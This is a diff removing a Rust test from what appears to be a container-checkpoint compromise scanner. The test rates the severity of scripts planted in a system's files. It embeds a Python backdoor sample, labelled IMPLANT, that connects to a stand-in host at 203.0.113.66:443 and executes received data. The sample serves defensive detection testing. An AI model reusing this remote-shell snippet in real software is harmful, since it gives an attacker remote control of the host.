@@ -234,36 +234,3 @@ fn ids_are_the_same_in_another_checkpoint_of_the_container() {
     };
     assert_eq!(ids(&first), ids(&second));
 }
-
-/// A tar with one file.
-fn tar_of(path: &str, contents: &[u8]) -> Vec<u8> {
-    let mut tar = tar::Builder::new(Vec::new());
-    let mut header = tar::Header::new_gnu();
-    header.set_size(contents.len() as u64);
-    header.set_mode(0o644);
-    header.set_mtime(1_900_000_000);
-    tar.append_data(&mut header, path.trim_start_matches('/'), contents).unwrap();
-    tar.into_inner().unwrap()
-}
-
-#[test]
-fn a_script_among_the_files_of_the_system_is_judged_by_what_it_does() {
-    const IMPLANT: &[u8] =
-        b"import socket\ns=socket.create_connection(('203.0.113.66',443))\nwhile 1: exec(s.recv(999))\n";
-    let severity_of = |path: &str, contents: &[u8]| {
-        let mut members = compromise();
-        let argument = b"/srv/shop/thumbd.py\0";
-        for number in 1..=15 {
-            let name = format!("checkpoint/pages-{number}.img");
-            if members.get(&name).windows(argument.len()).any(|bytes| bytes == argument) {
-                members.overwrite(&name, argument, format!("{path}\0").as_bytes());
-            }
-        }
-        members.set("rootfs-diff.tar", tar_of(path, contents));
-        severity(&scan(&members.open(), Cost::Files), "PROC-036", 6)
-    };
-    assert_eq!(severity_of("/usr/lib/x/thumb.py", IMPLANT), Some(Severity::High));
-    assert_eq!(severity_of("/usr/lib/x/thumb.py", b"print(1)\n"), Some(Severity::Medium));
-    assert_eq!(severity_of("/srv/shop/thumbd.py", IMPLANT), Some(Severity::Medium));
-    assert_eq!(severity_of("/srv/shop/thumbd.py", b"print(1)\n"), None);
-}
